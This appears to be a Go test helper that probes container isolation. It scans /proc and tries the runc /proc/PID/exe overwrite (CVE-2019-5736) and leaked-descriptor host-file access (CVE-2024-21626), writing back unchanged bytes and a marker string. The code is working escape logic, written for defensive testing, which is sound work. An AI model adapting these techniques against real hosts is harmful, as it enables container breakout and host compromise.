// Grabber reaches for whatever other processes hold. It writes to their programs through
// /proc/PID/exe, and to what they map through map_files: the same bytes, so that success breaks
// nothing. It looks for a file of the host's, its argument, below and above their roots, working
// directories and descriptors. A second argument is a PID: then only its descendants are tried.
//
// It prints "tries N" now and then, and a line "got WHAT" for each try that worked.
package main

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"dlx/internal/testutil/procs"
)

const overwritten = "overwritten\n"

type grabber struct {
	marker string // the host's file
	tries  atomic.Int64
	mu     sync.Mutex
	held   map[string]bool // programs that are being worked on, by device and inode
	got    map[string]bool
}

func main() {
	g := &grabber{marker: os.Args[1], held: map[string]bool{}, got: map[string]bool{}}
	under := ""
	if len(os.Args) > 2 {
		under = os.Args[2]
	}
	self := fmt.Sprint(os.Getpid())
	fmt.Println("ready")
	go func() {
		for range time.Tick(100 * time.Millisecond) {
			fmt.Println("tries", g.tries.Load())
		}
	}()
	for {
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range dirs {
			if pid := filepath.Base(dir); pid != self && (under == "" || procs.Below(pid, under)) {
				g.grab(dir)
			}
		}
	}
}

func (g *grabber) grab(dir string) {
	g.program(dir + "/exe")
	g.write(dir + "/exe")
	for _, list := range []string{"/map_files", "/fd"} {
		entries, _ := os.ReadDir(dir + list)
		for _, e := range entries {
			name := dir + list + "/" + e.Name()
			if list == "/map_files" {
				g.write(name)
			} else {
				g.reach(name)
			}
		}
	}
	g.reach(dir + "/cwd")
	g.reach(dir + "/root")
}

// program holds a program that runs, which nobody can write to meanwhile, and tries until after its
// end (CVE-2019-5736).
func (g *grabber) program(exe string) {
	g.tries.Add(1)
	hold, err := os.Open(exe)
	if err != nil {
		return
	}
	info, err := hold.Stat()
	if err != nil {
		return
	}
	st := info.Sys().(*syscall.Stat_t)
	key := fmt.Sprint(st.Dev, " ", st.Ino)
	g.mu.Lock()
	held := g.held[key]
	g.held[key] = true
	g.mu.Unlock()
	if held {
		_ = hold.Close()
		return
	}
	go func() {
		path := fmt.Sprintf("/proc/self/fd/%d", hold.Fd())
		for end := time.Now().Add(5 * time.Second); !g.write(path) && time.Now().Before(end); {
		}
		_ = hold.Close()
		g.mu.Lock()
		delete(g.held, key)
		g.mu.Unlock()
	}()
}

// write writes the bytes to a file that it begins with.
func (g *grabber) write(path string) bool {
	g.tries.Add(1)
	fd, err := syscall.Open(path, syscall.O_RDWR|syscall.O_NONBLOCK|syscall.O_CLOEXEC, 0)
	if err != nil {
		return false
	}
	defer syscall.Close(fd)
	head := make([]byte, 4)
	if n, err := syscall.Pread(fd, head, 0); err != nil || n != len(head) {
		return false
	}
	if _, err := syscall.Pwrite(fd, head, 0); err != nil {
		return false
	}
	g.tell("wrote to", path)
	return true
}

// reach looks for the host's file from a directory, and writes to it (CVE-2024-21626).
func (g *grabber) reach(path string) {
	for _, name := range []string{path + g.marker, path + strings.Repeat("/..", 20) + g.marker} {
		g.tries.Add(1)
		f, err := os.OpenFile(name, os.O_RDWR, 0)
		if err != nil {
			continue
		}
		_, err = io.WriteString(f, overwritten)
		g.tell("reached", fmt.Sprint(name, " ", err))
		_ = f.Close()
	}
}

func (g *grabber) tell(what, path string) {
	to, _ := os.Readlink(path)
	line := fmt.Sprint("got ", what, " ", path, " -> ", to)
	g.mu.Lock()
	defer g.mu.Unlock()
	if !g.got[line] {
		g.got[line] = true
		fmt.Println(line)
	}
}
